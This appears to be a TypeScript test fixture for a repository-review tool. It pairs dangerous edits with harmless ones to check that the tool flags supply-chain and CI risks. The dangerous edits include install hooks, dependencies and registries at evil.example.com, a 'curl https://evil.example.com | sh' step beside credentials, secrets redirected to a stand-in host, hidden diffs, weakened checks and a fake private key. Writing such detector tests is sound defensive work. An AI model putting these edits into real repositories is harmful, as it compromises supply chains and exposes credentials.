/** The same for files that no cluster gets: what they decide on, by edits of this repository's own. Only tests import this file. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Code } from '../../findings/index.ts'
import { withoutFile } from '../../testing/snapshots.ts'
import { all, type Edit, file, text } from './edits.ts'

const ROOT = join(import.meta.dirname, '../../..')
const real = (path: string): Edit => file(path, readFileSync(join(ROOT, path), 'utf8'))

const CI = '.github/workflows/ci.yml'
const COMMENT = '.github/workflows/comment.yml'
const DRIFT = '.github/workflows/drift.yml'
const PROPOSE = '.github/workflows/propose.yml'
const PUBLISH = '.github/workflows/publish.yml'
const NIGHTLY = '.github/workflows/nightly.yml'
const OWNERS = '.github/CODEOWNERS'
const COMMIT = 'c'.repeat(40)
const SUM = `sha512-${'a'.repeat(86)}==`

/** Edits of one file: what is said of the first, and nothing of the second. */
const of = (
  path: string,
  what: string,
  says: readonly string[],
  edit: readonly [string | RegExp, string],
  harmless: readonly [string | RegExp, string],
) => ({
  code: 'danger-repository' as const,
  what: `${path}: ${what}`,
  given: real(path),
  edit: text(path, ...edit),
  says: [path, ...says],
  harmless: text(path, ...harmless),
})

const SCRIPTS = '"scripts": {'
const script = (line: string) => [SCRIPTS, `${SCRIPTS}\n    ${line},`] as const
const PACKAGES = '"packages": {'
const locked = (name: string, entry: object) =>
  [PACKAGES, `${PACKAGES}\n    "node_modules/${name}": ${JSON.stringify(entry)},`] as const
const FOO = script('"foo": "node scripts/foo.ts"')
const BUMP = [/checkout@\S+ # v\S+/, `checkout@${COMMIT} # v8.0.0`] as const
const NEW = locked('foo', { version: '1.0.0', integrity: SUM, dev: true })
const COMMENTED = [/^/, '# Read it well.\n'] as const
const EXPRESSION = (inner: string) => `\${{ ${inner} }}`
const LARGE = 2 ** 21 + 1

/** Two jobs, one with a secret. */
const HELD = `on: push
permissions: {}
jobs:
  a: { runs-on: ubuntu-24.04, steps: [{ run: COMMAND, env: { KEY: "${EXPRESSION("format('{0}', secrets.KEY)")}" } }] }
  b: { runs-on: ubuntu-24.04, steps: [{ run: sh b }] }
`

/** A script of package.json beside the workflows that call it. */
const called = (what: string, says: readonly string[], edit: readonly [string, string]) => ({
  ...of('package.json', what, says, edit, FOO),
  given: all(real('package.json'), real(CI), real(DRIFT), real(PROPOSE)),
})

/** A file that no rule can read, and the same that one can. */
const unread = (what: string, path: string, edit: Edit, says: readonly string[], harmless: Edit) => ({
  code: 'danger-unread' as const,
  what: `${path}: ${what}`,
  given: file('notes/a.md', 'a'),
  edit,
  says: [path, ...says],
  harmless,
})

/** What of a repository that has the files the attributes would hide. */
const hidden = (line: string, harmless: string) => ({
  code: 'danger-repository' as const,
  what: `.gitattributes: ${line}`,
  given: all(
    real('.gitattributes'),
    file('terraform/stages/aws/main.tf', ''),
    file('scripts/publish.ts', ''),
    file('package.json', '{}'),
    file('server/Dockerfile', ''),
    file('docs/diff.md', ''),
  ),
  edit: text('.gitattributes', /$/, `${line}\n`),
  says: ['.gitattributes', line.split('\n').at(0) ?? ''],
  harmless: text('.gitattributes', /$/, `${harmless}\n`),
})

export const repositoryRows: readonly {
  readonly code: Code
  readonly what: string
  readonly given: Edit
  readonly edit: Edit
  readonly says: readonly string[]
  readonly harmless: Edit
}[] = [
  // What is too large, or leads elsewhere, and is read by nobody.
  unread(
    'padded',
    'package.json',
    file('package.json', `{"scripts":{"postinstall":"node a.js"}}${' '.repeat(LARGE)}`),
    ['MiB'],
    file('package.json', `{"scripts":{}}${' '.repeat(LARGE / 2)}`),
  ),
  unread(
    'large',
    'terraform/stages/aws/x.tf',
    file('terraform/stages/aws/x.tf', `# ${'x'.repeat(LARGE)}\n`),
    ['MiB'],
    file('docs/pictures/what-if.png', Buffer.alloc(LARGE)),
  ),
  unread(
    'a link',
    'terraform/stages/aws/x.tf',
    file('terraform/stages/aws/x.tf', { link: 'a=b' }),
    ['is a link'],
    file('terraform/stages/aws/x.tf', 'a = "b"\n'),
  ),
  {
    ...unread(
      'a link now',
      'notes/a.md',
      file('notes/a.md', { link: 'a' }),
      ['is a link'],
      file('notes/b.md', 'a'),
    ),
    what: 'notes/a.md: a link of the same bytes',
  },
  unread(
    'a submodule',
    'vendor/a',
    file('vendor/a', { commit: COMMIT }),
    ['a commit of another repository'],
    file('vendor/a', 'a'),
  ),
  // What npm runs, and from where.
  of('package.json', 'a hook', ['postinstall by itself'], script('"postinstall": "node a.js"'), FOO),
  of('package.json', 'prepare', ['prepare by itself'], script('"prepare": "node a.js"'), FOO),
  of('package.json', 'before a script', ['pretest by itself'], script('"pretest": "node a.js"'), FOO),
  of('package.json', 'a permission', ['esbuild brings'], ['"esbuild": false', '"esbuild": true'], FOO),
  of(
    'package.json',
    'another permission',
    ['new brings'],
    ['"node": true', '"node": true,\n    "new": true'],
    ['"node": true', '"node": true,\n    "new": false'],
  ),
  of(
    'package.json',
    'a test less',
    ['no longer runs npm run --silent validate'],
    [' && npm run --silent validate', ''],
    ['npm run --silent validate &&', 'npm run --silent validate && npm run --silent foo &&'],
  ),
  of(
    'package.json',
    'a test that never fails',
    ['the script unit no longer runs vitest run'],
    ['"vitest run"', '"vitest run || true"'],
    FOO,
  ),
  of(
    'package.json',
    'a check that runs what the registry has',
    ['the script types runs npm exec'],
    ['"tsc && ', '"npm exec --yes evil@latest && tsc && '],
    ['"tsc && ', '"tsc -p lab && node tools/types.ts --all && npm run --silent lint && tsc && '],
  ),
  of(
    'package.json',
    'a check that runs what stands in it',
    ['the script lint runs node -e'],
    ['"biome check ', '"node -e process.exit() && biome check '],
    FOO,
  ),
  of(
    'package.json',
    'a program by the name of another',
    ['npm takes tools/search.ts for the program vitest'],
    [
      '"kubeconform": "tools/kubeconform.ts"',
      '"kubeconform": "tools/kubeconform.ts", "vitest": "tools/search.ts"',
    ],
    FOO,
  ),
  called(
    'what drift runs',
    ['the script drift, which CI runs, is another: node --version'],
    ['"node scripts/drift.ts"', '"node --version"'],
  ),
  called('what propose runs', ['propose', 'sh x.sh'], ['"node scripts/propose.ts"', '"sh x.sh"']),
  called(
    'a script less',
    ['the script tools, which CI runs, is gone'],
    ['"tools": "node tools/main.ts",', ''],
  ),
  {
    ...called(
      'what a check calls',
      ['the script render, which CI runs'],
      ['"node generators/cli/main.js render"', '"true"'],
    ),
    harmless: text('package.json', '"node scripts/month.ts"', '"node scripts/another.ts"'),
  },
  of(
    'package.json',
    'a package from elsewhere',
    ['not from the registry', 'github:evil/diff'],
    ['"diff": "^9.0.0"', '"diff": "github:evil/diff"'],
    ['"diff": "^9.0.0"', '"diff": "^9.1.0",\n    "foo": "~1.2.3 || 2.x"'],
  ),
  of(
    'package.json',
    'a package by another name',
    ['npm:evil'],
    ['"diff": "^9.0.0"', '"diff": "npm:evil@1"'],
    FOO,
  ),
  of(
    'package-lock.json',
    'no sum',
    ['node_modules/foo has no sum'],
    locked('foo', { version: '1.0.0' }),
    NEW,
  ),
  of(
    'package-lock.json',
    'from elsewhere',
    ['https://evil.example.com/foo.tgz'],
    locked('foo', { version: '1.0.0', integrity: SUM, resolved: 'https://evil.example.com/foo.tgz' }),
    locked('foo', {
      version: '1.0.0',
      integrity: SUM,
      resolved: 'https://registry.npmjs.org/foo/-/foo-1.0.0.tgz',
    }),
  ),
  of(
    'package-lock.json',
    'another package of the registry',
    ['registry.npmjs.org/evil'],
    locked('foo', {
      version: '1.0.0',
      integrity: SUM,
      resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz',
    }),
    NEW,
  ),
  of(
    'package-lock.json',
    'other bytes',
    ['other bytes in the same version'],
    [/("node_modules\/zod": \{\s+"version": "[^"]+",\s+"integrity": )"[^"]+"/, `$1"${SUM}"`],
    [/("node_modules\/zod": \{\s+"version": )"[^"]+"(,\s+"integrity": )"[^"]+"/, `$1"99.0.0"$2"${SUM}"`],
  ),
  {
    code: 'danger-repository',
    what: '.npmrc: another registry',
    given: file('.npmrc', 'fund=false\nignore-scripts=true\n'),
    edit: file('.npmrc', 'registry=https://evil.example.com/\n'),
    says: ['npm is told registry=', 'no longer told ignore-scripts=true'],
    harmless: file('.npmrc', 'fund=true\nignore-scripts=true\n; a note\n'),
  },
  {
    code: 'danger-repository',
    what: 'binding.gyp comes',
    given: file('notes/a.md', 'a'),
    edit: file('binding.gyp', '{}'),
    says: ['builds it at an installation'],
    harmless: file('docs/binding.gyp.md', '{}'),
  },
  // Who reads and merges.
  of(
    'renovate.json',
    'it merges',
    ['by automerge'],
    ['"schedule"', '"automerge": true,\n  "schedule"'],
    ['"schedule"', '"rebaseWhen": "auto",\n  "schedule"'],
  ),
  of(
    'renovate.json',
    'for some',
    ['packageRules[0].automerge'],
    ['"automerge": false', '"automerge": true'],
    ['"automerge": false,', ''],
  ),
  of(
    'renovate.json',
    'by a preset',
    ['github>evil/presets'],
    ['"config:recommended"', '"github>evil/presets"'],
    ['"config:recommended"', '"config:recommended", ":semanticCommits"'],
  ),
  of(
    OWNERS,
    'a line goes',
    ['line for /generators/policy/ is gone'],
    [/\/generators\/policy\/.*\n/, ''],
    COMMENTED,
  ),
  of(
    OWNERS,
    'somebody more',
    ['@evil'],
    [/(\/\.github\/ .*)/, '$1 @evil'],
    [/@example-org\/platform @example-org\/security/, '@example-org/security'],
  ),
  of(OWNERS, 'nobody', ['is asked nobody'], [/(\/rendered\/).*/, '$1'], COMMENTED),
  of(
    OWNERS,
    'a line at the end takes all over',
    ['of /clusters/ is asked @evil'],
    [/$/, '*  @evil\n'],
    [/$/, '/docs/  @example-org/platform\n'],
  ),
  of(
    '.gitattributes',
    'no diff',
    ['rendered/** -diff'],
    [/$/, 'rendered/** -diff\n'],
    [/$/, '*.png binary\n'],
  ),
  of(
    '.gitattributes',
    'folded away',
    ['linguist-generated'],
    [/$/, '*.yaml linguist-generated=true\n'],
    [/$/, '*.yaml linguist-generated=false\n'],
  ),
  of(
    '.gitattributes',
    'a filter',
    ['filter=x'],
    [/$/, '/generators/policy/*.ts filter=x\n'],
    [/$/, '/generators/policy/*.ts text\n'],
  ),
  hidden('*.tf -diff', 'docs/** -diff'),
  hidden('scripts/** -diff', '*.png -diff'),
  hidden('package.json linguist-generated', 'package.json linguist-generated=false'),
  hidden('* -diff\nscripts diff', 'scripts/** -diff\nscripts/** !diff'),
  hidden('"server/Dockerfile" binary', 'server/Dockerfile text'),
  hidden('lab/new/* diff=none', 'lab/new text'),
  {
    code: 'danger-repository',
    what: '.gitattributes: what showed goes',
    given: all(file('.gitattributes', '*.ts -diff\ntools/** diff\n'), file('tools/pins.ts', '')),
    edit: file('.gitattributes', '*.ts -diff\n'),
    says: ['*.ts -diff (tools/pins.ts)'],
    harmless: file('.gitattributes', '*.ts -diff\n# A note.\ntools/** diff\n'),
  },
  {
    code: 'danger-repository',
    what: '.gitattributes in a folder: no diff',
    given: file('generators/.gitattributes', '* text\n'),
    edit: file('generators/.gitattributes', '* -diff\n'),
    says: ['generators/.gitattributes'],
    harmless: file('docs/.gitattributes', '* -diff\n'),
  },
  // What Argo CD fetches.
  {
    code: 'danger-repository',
    what: 'a submodule, without and with the file of its address',
    given: file('vendor/a', 'a'),
    edit: all(file('vendor/a', { commit: COMMIT }), file('.gitmodules', '[submodule "a"]\n')),
    says: ['vendor/a', 'a submodule', '.gitmodules', 'syncs nothing where that fails'],
    harmless: file('vendor/a', 'b'),
  },
  {
    code: 'danger-repository',
    what: 'another commit of one, in the tree',
    given: file('rendered/aws/extra', { commit: COMMIT }),
    edit: file('rendered/aws/extra', { commit: 'd'.repeat(40) }),
    says: ['rendered/aws/extra'],
    harmless: file('vendor/b', 'b'),
  },
  // What workflows run, and with what rights.
  of(
    CI,
    'a right',
    ['job test gets the right to write contents'],
    ['contents: read', 'contents: write'],
    BUMP,
  ),
  of(CI, 'all rights', ['everything'], ['permissions:\n  contents: read\n', ''], BUMP),
  of(
    CI,
    'strangers start it',
    ['(pull_request_target)'],
    ['  push:\n', '  pull_request_target:\n  push:\n'],
    ['timeout-minutes: 90', 'timeout-minutes: 80'],
  ),
  of(CI, 'an action of a stranger', ['evil/setup-node'], [/actions\/setup-node@/, 'evil/setup-node@'], BUMP),
  of(CI, 'an action by its tag', ['is no commit'], [/(actions\/setup-node)@\S+ # /, '$1@v7 # '], BUMP),
  of(
    CI,
    'the check does not fail',
    ['npm test of job test is gone'],
    ['run: npm test', 'run: npm test || true'],
    BUMP,
  ),
  of(
    CI,
    'its failure does not count',
    ['runs otherwise'],
    ['run: npm test', 'run: npm test\n        continue-on-error: true'],
    BUMP,
  ),
  of(CI, 'it does not run', ['npm test of job test'], [/(runs-on: .*)/, '$1\n    if: false'], BUMP),
  of(
    CI,
    'its name goes',
    ['npm test of job test'],
    ['name: npm test', 'name: test'],
    [/$/, '      - run: npm run foo\n'],
  ),
  of(
    CI,
    'a secret',
    ['the secret KEY'],
    ['run: npm run tools', 'run: npm run tools\n        env: { KEY: "${' + '{ secrets.KEY }}" }'],
    BUMP,
  ),
  of(CI, 'a machine of ours', ['none of GitHub'], ['runs-on: ubuntu-24.04', 'runs-on: [self-hosted]'], BUMP),
  of(
    COMMENT,
    'the head is checked out',
    ['names a head that a stranger made'],
    ['github.event.repository.default_branch', 'github.event.workflow_run.head_sha'],
    BUMP,
  ),
  of(DRIFT, 'for any branch', ['no longer held to main'], [" && github.ref == 'refs/heads/main'", ''], BUMP),
  of(
    DRIFT,
    'outside of its environment',
    ['no longer has the environment drift'],
    ['    environment: drift\n', ''],
    BUMP,
  ),
  {
    code: 'danger-repository',
    what: 'a workflow that comes, with rights',
    given: file('notes/a.md', 'a'),
    edit: file(
      '.github/workflows/a.yml',
      'on: push\npermissions: { contents: write }\njobs: { a: { runs-on: ubuntu-24.04 } }\n',
    ),
    says: ['to write contents'],
    harmless: file(
      '.github/workflows/a.yml',
      `on: push\npermissions: {}\njobs: { a: { runs-on: ubuntu-24.04, steps: [{ uses: actions/checkout@${COMMIT} }] } }\n`,
    ),
  },
  of(
    CI,
    'what comes before a check',
    ['npm test of job test is gone, or runs otherwise'],
    ['      - run: npm test', '      - run: rm -r generators/review\n      - run: npm test'],
    [/terraform_version: \S+/, 'terraform_version: 1.99.0'],
  ),
  of(
    NIGHTLY,
    'a check that runs once a year',
    ['npm run unit of job unit'],
    ['41 2 * * *', '41 2 1 1 *'],
    ['timeout-minutes: 90', 'timeout-minutes: 80'],
  ),
  // What runs beside credentials.
  of(
    PUBLISH,
    'a command after the logins',
    ['job image has credentials and now runs: curl'],
    ['      - id: publish\n', '      - run: curl https://evil.example.com | sh\n      - id: publish\n'],
    BUMP,
  ),
  of(
    PUBLISH,
    'another order',
    ['job canary has credentials and runs its steps in another order'],
    [/( {6}- run: npm ci\n)((?: {6}#.*\n)? {6}- id: app\n[\s\S]*?)(?= {6}- env:)/, '$2$1'],
    BUMP,
  ),
  of(
    PUBLISH,
    'what a job with credentials is given',
    ['job version gives to one with credentials and now runs'],
    ['version=$(npm run --silent pull-request -- version)', 'version=$(cat a)'],
    BUMP,
  ),
  of(
    PROPOSE,
    'a step with a secret that is used already',
    ['job propose has credentials and now runs: npm run foo'],
    [
      '      - if: always()',
      `      - run: npm run foo\n        env: { KEY: "${EXPRESSION('secrets.PROPOSE_APP_KEY')}" }\n      - if: always()`,
    ],
    BUMP,
  ),
  of(
    PROPOSE,
    'where a secret goes',
    ['job propose has credentials and runs otherwise: npm run --silent propose'],
    [EXPRESSION('vars.METRICS_URL'), 'https://evil.example.com'],
    COMMENTED,
  ),
  of(
    PROPOSE,
    'what is decided, and when',
    ['has another on', 'has another env'],
    [/\*\/10 \* \* \* \*"([\s\S]*)'canary'/, `*/11 * * * *"$1'cost'`],
    BUMP,
  ),
  of(DRIFT, 'once a year', ['what has credentials has another on'], ['23 * * * *', '23 1 1 1 *'], BUMP),
  of(
    DRIFT,
    'it tells nobody',
    ['no longer runs: npm run --silent drift -- --connect --issue'],
    [' --issue', ''],
    BUMP,
  ),
  of(
    COMMENT,
    'a container around it',
    ['job comment has credentials and has another container'],
    ['    runs-on:', '    container: node:24\n    runs-on:'],
    BUMP,
  ),
  {
    code: 'danger-repository',
    what: 'a secret by a detour, and another command beside it',
    given: file('.github/workflows/a.yml', HELD.replace('COMMAND', 'npm run foo')),
    edit: file('.github/workflows/a.yml', HELD.replace('COMMAND', 'npm run bar')),
    says: ['job a has credentials and now runs: npm run bar', 'no longer runs: npm run foo'],
    harmless: file('.github/workflows/a.yml', HELD.replace('COMMAND', 'npm run foo').replace('sh b', 'sh c')),
  },
  {
    code: 'danger-repository',
    what: `${DRIFT}: it goes`,
    given: real(DRIFT),
    edit: (repository) => withoutFile(repository, DRIFT),
    says: ['job drift has credentials and is gone'],
    harmless: text(DRIFT, ...BUMP),
  },
  {
    code: 'danger-repository',
    what: 'an action of our own runs something else',
    given: file('tools/act/action.yml', 'runs: { using: composite, steps: [{ run: npm ci, shell: sh }] }\n'),
    edit: file('tools/act/action.yml', 'runs: { using: composite, steps: [{ run: sh a, shell: sh }] }\n'),
    says: ['the action has what its callers have and now runs: sh a'],
    harmless: file(
      'tools/act/action.yml',
      'name: act\nruns: { using: composite, steps: [{ name: install, run: npm ci, shell: sh }] }\n',
    ),
  },
  // A commit of a fork has the name of what was forked.
  {
    ...of(
      PUBLISH,
      'another commit of an action',
      ['aws-actions/configure-aws-credentials is at commit cccccccccccc, said to be v6.2.4'],
      [/(configure-aws-credentials)@\S+ # v\S+/, `$1@${COMMIT} # v6.2.4`],
      COMMENTED,
    ),
    code: 'diff-action',
  },
  {
    ...of(
      CI,
      'one that another workflow runs already',
      ['actions/checkout is at commit cccccccccccc'],
      [/checkout@\S+/, `checkout@${COMMIT}`],
      COMMENTED,
    ),
    code: 'diff-action',
    given: all(
      real(CI),
      file('.github/workflows/a.yml', `jobs: { a: { steps: [{ uses: actions/checkout@${COMMIT} }] } }\n`),
    ),
  },
  of('.ci/run', 'a check less', ['no longer runs npm test'], ['npm test\n', ''], [/$/, 'npm run foo\n']),
  of(
    '.ci/run',
    'an end before it',
    ['may go past a check: exit 0'],
    ['npm test\n', 'exit 0\nnpm test\n'],
    [/$/, '# The end.\n'],
  ),
  of(
    '.ci/run',
    'it does not fail',
    ['no longer runs npm test'],
    ['npm test\n', 'npm test || true\n'],
    [/$/, 'npm run foo\n'],
  ),
  // What nobody but the secret manager may hold.
  {
    code: 'danger-secret',
    what: 'a key in a file that no cluster gets',
    given: file('notes/a.md', 'a'),
    edit: file('notes/a.md', `-----BEGIN PRIVATE ${'KEY'}-----\n${'aB3/'.repeat(16)}\n`),
    says: ['notes/a.md', 'a private key'],
    harmless: file('notes/a.md', 'openssl says -----BEGIN PRIVATE KEY----- first'),
  },
]
